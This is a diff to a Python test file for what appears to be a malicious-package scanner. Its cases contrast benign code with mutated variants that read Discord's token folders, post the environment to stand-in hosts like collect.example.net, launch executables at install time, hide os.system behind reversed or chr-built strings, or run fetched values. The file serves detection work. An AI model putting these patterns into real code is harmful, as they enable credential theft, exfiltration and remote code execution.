@@ -5696,7 +5696,8 @@ def test_a_credential_name_in_an_options_help_text_is_not_a_credential_store():
             'help=open("discord/Local State").read()',
         ),
         ("({NAME})", "({open('discord/Local State').read()})"),
-        ('default=None, help="Filter', 'default="console/dingtalk/discord/qq", help="Filter'),
+        # (Discord's folder, not a path that names it among chat apps: DISCORD_FOLDER)
+        ('default=None, help="Filter', 'default="~/.config/discord/", help="Filter'),
     ],
 )
 def test_a_credential_store_read_in_code_beside_help_text_is_still_theft(old, new):
@@ -6017,3 +6018,356 @@ def test_a_written_file_run_by_a_shell_command_still_blocks(command):
     )
     files = {"setup.py": SETUP, "demo/__init__.py": "", "demo/conversion.py": module}
     assert "high" in severities(scan(files), "intent.drop-payload")
+
+
+# -- code assembled from whole lines, each written out, is in plain sight ----------------------
+
+CONSOLE_PRESETS = """
+    class Kernel:
+        def set_special(self, special):
+            if special == "sympy":
+                init = "\\n".join([
+                    "from sympy import *",
+                    "x, y, z, t = symbols('x y z t')",
+                    "init_printing()",
+                ])
+                exec(init, self.namespace)
+"""
+
+
+def test_code_joined_from_whole_lines_written_out_is_not_hidden_code():
+    """spyder-kernels: a console preset runs lines it lists, joined by new lines."""
+    files = {"setup.py": SETUP, "demo/__init__.py": "", "demo/kernel.py": CONSOLE_PRESETS}
+    result = scan(files)
+    assert not found(result, "obfuscation.hidden-code-exec")
+    assert result.verdict not in FLAGGED
+
+
+@pytest.mark.parametrize(
+    "assembled",
+    [
+        '"".join(["from sympy imp", "ort *\\\\n", "init_printing()"])',  # a line cut in pieces
+        '"\\\\n".join(["* tropmi ypmys morf"[::-1], ")(gnitnirp_tini"[::-1]])',
+        '"\\\\n".join([chr(105) + "mport os", "os.system(cmd)"])',
+        '"\\\\n".join(["from sympy import *", "im" + "port os"])',  # one line hidden is enough
+    ],
+)
+def test_code_assembled_from_pieces_of_lines_stays_hidden_code(assembled):
+    module = textwrap.dedent(CONSOLE_PRESETS)
+    start = module.index('"\\n".join([')
+    end = module.index("])", start) + 2
+    module = module[:start] + assembled + module[end:]
+    files = {"setup.py": SETUP, "demo/__init__.py": "", "demo/kernel.py": module}
+    assert found(scan(files), "obfuscation.hidden-code-exec")
+
+
+# -- a launched file is named in the command's strings, not by an attribute of the code --------
+
+SHARED_LIBRARY_SETUP = """
+    import subprocess, sys
+    from setuptools import setup, Extension
+    from setuptools.command.build_ext import build_ext
+
+    class SharedLibrary(Extension):
+        def __init__(self, name, cmd):
+            Extension.__init__(self, name, sources=[])
+            self.cmd = cmd
+
+    class Build(build_ext):
+        def build_extension(self, ext):
+            rv = subprocess.Popen(ext.cmd, shell=True).wait()
+            if rv != 0:
+                sys.exit(rv)
+
+    setup(
+        name="demo",
+        ext_modules=[SharedLibrary("demo.lib", cmd='"{}" ./build_lib.py'.format(sys.executable))],
+        cmdclass={"build_ext": Build},
+    )
+"""
+
+
+def test_an_attribute_named_like_a_file_type_is_not_a_launched_file():
+    """freetype-py: ``Popen(ext.cmd, shell=True)`` runs the extension's build command; ``.cmd``
+    is an attribute, not a Windows batch file."""
+    files = {"setup.py": SHARED_LIBRARY_SETUP, "demo/__init__.py": ""}
+    result = scan(files)
+    assert not found(result, "install-time.runs-executable")
+    assert result.verdict not in FLAGGED
+
+
+@pytest.mark.parametrize(
+    "launch",
+    [
+        'subprocess.Popen([ext.cmd, "payload.exe"])',
+        'subprocess.Popen(ext.cmd + "\\\\run.bat", shell=True)',
+        "subprocess.Popen(f'{ext.cmd}/stage.vbs', shell=True)",
+        'subprocess.Popen("start " + ext.cmd, shell=True)',
+    ],
+)
+def test_a_file_type_written_in_a_launch_at_install_stays_flagged(launch):
+    setup_py = textwrap.dedent(SHARED_LIBRARY_SETUP).replace(
+        "subprocess.Popen(ext.cmd, shell=True)", launch
+    )
+    files = {"setup.py": setup_py, "demo/__init__.py": ""}
+    assert "high" in severities(scan(files), "install-time.runs-executable")
+
+
+# -- one variable read from a copy of the environment is one secret, not the environment -------
+
+ALERTS_PROBE = """
+    import os
+    import httpx
+
+    def probe_alerts(env=None):
+        env = env or os.environ.copy()
+        token = (env.get("GITHUB_TOKEN") or "").strip()
+        repo = (env.get("GITHUB_REPOSITORY") or "").strip()
+        base = (env.get("GITHUB_API_URL") or "https://api.github.com").rstrip("/")
+        return httpx.get(
+            f"{base}/repos/{repo}/code-scanning/alerts",
+            headers={"Authorization": f"Bearer {token}"},
+        )
+"""
+
+
+def test_a_variable_read_from_a_copy_of_the_environment_is_not_the_environment():
+    """bernstein: ``env = env or os.environ.copy()``, then ``env.get("GITHUB_TOKEN")`` sent to
+    GitHub's API: one token for its own service, not the environment sent away."""
+    files = {"setup.py": SETUP, "demo/__init__.py": "", "demo/probe.py": ALERTS_PROBE}
+    result = scan(files)
+    assert not found(result, "intent.exfiltration")
+    assert result.verdict not in FLAGGED
+
+
+@pytest.mark.parametrize(
+    "sent",
+    [
+        "env",  # the copy itself
+        "dict(env)",
+        "env.get('config')",  # not a variable's name: a key of something else
+        "str(env.items())",
+    ],
+)
+def test_a_copy_of_the_environment_sent_away_stays_exfiltration(sent):
+    module = textwrap.dedent(ALERTS_PROBE).replace(
+        'headers={"Authorization": f"Bearer {token}"},', f"json={{'data': {sent}}},"
+    )
+    files = {"setup.py": SETUP, "demo/__init__.py": "", "demo/probe.py": module}
+    assert found(scan(files), "intent.exfiltration")
+
+
+# -- `python -m tool ARGS` with fetched arguments runs the tool --------------------------------
+
+TICKET_IMPORT = """
+    import subprocess, sys
+    import httpx
+
+    def import_ticket(server, ticket, run=False):
+        result = httpx.get("https://tracker.example.com/tasks", params=ticket).json()
+        task_id = str(result.get("id", "?"))
+        if run:
+            return subprocess.call([sys.executable, "-m", "demo", "run", "--task", task_id])
+"""
+
+
+def test_fetched_values_as_arguments_of_a_named_module_are_not_run_code():
+    """bernstein: a task id its server answered handed to ``python -m bernstein run --task``."""
+    files = {"setup.py": SETUP, "demo/__init__.py": "", "demo/tickets.py": TICKET_IMPORT}
+    result = scan(files)
+    assert "high" not in severities(result, "intent.download-execute")
+    assert result.verdict not in FLAGGED
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        '[sys.executable, "-c", task_id]',
+        '[sys.executable, "-m", "pip", "install", task_id]',
+        '[sys.executable, "-m", "runpy", task_id]',
+        "[sys.executable, task_id]",
+        '[sys.executable, "-m", task_id]',
+        '["sh", "-m", "demo", task_id]',
+    ],
+)
+def test_fetched_values_handed_to_an_interpreter_stay_download_execute(command):
+    module = textwrap.dedent(TICKET_IMPORT).replace(
+        '[sys.executable, "-m", "demo", "run", "--task", task_id]', command
+    )
+    files = {"setup.py": SETUP, "demo/__init__.py": "", "demo/tickets.py": module}
+    assert "high" in severities(scan(files), "intent.download-execute")
+
+
+# -- Discord's folder is a credential store; a route named after Discord is not ----------------
+
+DISCORD_ROUTE = """
+    import httpx
+    from fastapi import APIRouter
+
+    router = APIRouter()
+
+    @router.post("/webhooks/discord/interactions")
+    async def interactions(body: dict):
+        httpx.post("http://127.0.0.1:8052/tasks", json=body)
+"""
+
+
+def test_a_web_route_named_after_discord_is_not_its_token_store():
+    files = {"setup.py": SETUP, "demo/__init__.py": "", "demo/routes.py": DISCORD_ROUTE}
+    result = scan(files)
+    assert not found(result, "capability.credential-path")
+    assert result.verdict not in FLAGGED
+
+
+@pytest.mark.parametrize(
+    "folder",
+    [
+        "os.path.expandvars('%APPDATA%/discord/Local Storage/leveldb')",
+        "os.path.expanduser('~/.config/discord/')",
+        "os.getenv('APPDATA') + '\\\\\\\\Roaming\\\\\\\\discordcanary\\\\\\\\'",
+        "home + '/Library/Application Support/discord/'",
+        "f'{roaming}/discordptb/leveldb'",
+    ],
+)
+def test_discords_own_folder_stays_a_credential_store(folder):
+    module = (
+        textwrap.dedent(DISCORD_ROUTE)
+        .replace("json=body)", f"json=open({folder}).read())")
+        .replace("import httpx", "import httpx, os\nhome = roaming = os.getcwd()")
+    )
+    files = {"setup.py": SETUP, "demo/__init__.py": "", "demo/routes.py": module}
+    assert found(scan(files), "capability.credential-path")
+
+
+# -- names bound from a tuple take the labels of their own place -------------------------------
+
+CHAT_SERVER = """
+    import os, subprocess
+    import requests
+
+    def spawn_server(port):
+        env = os.environ.copy()
+        env["CHAT_SPAWNED"] = "1"
+        proc = subprocess.Popen(["chat-server", "--port", str(port)], env=env)
+        base_url = f"http://{HOST}:{port}"
+        return proc, base_url
+
+    def first_model(port):
+        proc, base_url = spawn_server(port)
+        return requests.get(f"{base_url}/v1/models", timeout=2).json()
+"""
+
+
+def test_a_name_bound_from_a_returned_tuple_has_only_its_places_labels():
+    """rapid-mlx: ``proc, base_url = _spawn_chat_server(...)``: the process was started with a
+    copy of the environment, the URL was not; asking the URL for models sends no environment."""
+    module = textwrap.dedent(CHAT_SERVER).replace("{HOST}", "chat.example.net")
+    files = {"setup.py": SETUP, "demo/__init__.py": "", "demo/chat.py": module}
+    result = scan(files)
+    assert not found(result, "intent.exfiltration")
+    assert result.verdict not in FLAGGED
+
+
+@pytest.mark.parametrize(
+    "returned, sent",
+    [
+        ("proc, base_url + str(env)", "base_url"),  # the environment is in that place
+        ("proc, base_url", "proc"),  # the place that holds it is the one sent
+        ("env, base_url", "proc"),
+    ],
+)
+def test_the_place_that_holds_the_environment_sent_stays_exfiltration(returned, sent):
+    module = (
+        textwrap.dedent(CHAT_SERVER)
+        .replace("{HOST}", "chat.example.net")
+        .replace("return proc, base_url", f"return {returned}")
+        .replace(
+            'f"{base_url}/v1/models", timeout=2', f'"https://chat.example.net/", data=str({sent})'
+        )
+    )
+    files = {"setup.py": SETUP, "demo/__init__.py": "", "demo/chat.py": module}
+    assert found(scan(files), "intent.exfiltration")
+
+
+# -- what a service on this machine answers is not downloaded ----------------------------------
+
+LOCAL_AGENT = """
+    import json, subprocess, urllib.request
+
+    def served_model(port, key):
+        request = urllib.request.Request(
+            f"http://127.0.0.1:{port}/v1/models", headers={"Authorization": f"Bearer {key}"}
+        )
+        with urllib.request.urlopen(request, timeout=2) as response:
+            return json.loads(response.read())["data"][0]["id"]
+
+    def launch(port, key):
+        model = served_model(port, key)
+        return subprocess.Popen(["/bin/zsh", "-lc", f"agent --model {model}"])
+"""
+
+
+def test_an_answer_of_a_service_on_this_machine_is_not_downloaded_code():
+    """rapid-mlx: the model its own local server serves, named in the agent's command line."""
+    files = {"setup.py": SETUP, "demo/__init__.py": "", "demo/agent.py": LOCAL_AGENT}
+    result = scan(files)
+    assert not found(result, "intent.download-execute")
+    assert result.verdict not in FLAGGED
+
+
+@pytest.mark.parametrize(
+    "address",
+    [
+        'f"http://models.example.net:{port}/v1/models"',
+        'f"http://127.0.0.1@models.example.net:{port}/v1/models"',  # a user part, then the host
+        'f"http://127.0.0.1{port}/v1/models"',  # the host does not end where it is written
+        'f"http://localhost.{port}.example.net/v1/models"',
+    ],
+)
+def test_an_answer_from_another_host_run_as_a_command_stays_download_execute(address):
+    module = textwrap.dedent(LOCAL_AGENT).replace('f"http://127.0.0.1:{port}/v1/models"', address)
+    files = {"setup.py": SETUP, "demo/__init__.py": "", "demo/agent.py": module}
+    assert found(scan(files), "intent.download-execute")
+
+
+LOCAL_DAEMON = """
+    import os, urllib.request
+
+    def daemon_alive(port):
+        token = os.environ.copy()
+        url = f"http://127.0.0.1:{port}"
+        with urllib.request.urlopen(_health_request(f"{url}/healthz", token), timeout=1) as r:
+            return r.status == 200
+
+    def _health_request(url, auth_token=None):
+        headers = {"X-Guard-Token": str(auth_token)} if auth_token else {}
+        return urllib.request.Request(url, headers=headers, method="GET")
+"""
+
+
+def test_a_request_built_by_a_helper_for_this_machine_sends_nothing_away():
+    """hol-guard: its daemon's health check on 127.0.0.1, through a helper making the
+    request."""
+    files = {"setup.py": SETUP, "demo/__init__.py": "", "demo/daemon.py": LOCAL_DAEMON}
+    result = scan(files)
+    assert not found(result, "intent.exfiltration")
+    assert result.verdict not in FLAGGED
+
+
+@pytest.mark.parametrize(
+    "old, new",
+    [
+        ('url = f"http://127.0.0.1:{port}"', 'url = f"https://collect.example.net:{port}"'),
+        # a helper that does not make the request for the address it is given
+        (
+            "return urllib.request.Request(url, headers",
+            'return urllib.request.Request("https://collect.example.net/", headers',
+        ),
+        ('f"{url}/healthz", token', 'f"https://collect.example.net/{url}", token'),
+    ],
+)
+def test_a_helper_sending_the_environment_elsewhere_stays_exfiltration(old, new):
+    module = textwrap.dedent(LOCAL_DAEMON)
+    assert old in module
+    files = {"setup.py": SETUP, "demo/__init__.py": "", "demo/daemon.py": module.replace(old, new)}
+    assert found(scan(files), "intent.exfiltration")
